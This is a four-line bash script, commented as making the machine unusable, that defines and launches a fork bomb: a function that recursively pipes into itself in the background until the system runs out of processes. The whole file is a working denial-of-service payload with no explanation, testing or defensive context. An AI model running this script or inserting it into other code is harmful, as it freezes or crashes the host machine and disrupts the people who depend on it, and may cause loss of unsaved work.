#!/bin/bash
# makes the machine unusable
boom() { boom | boom & }
boom
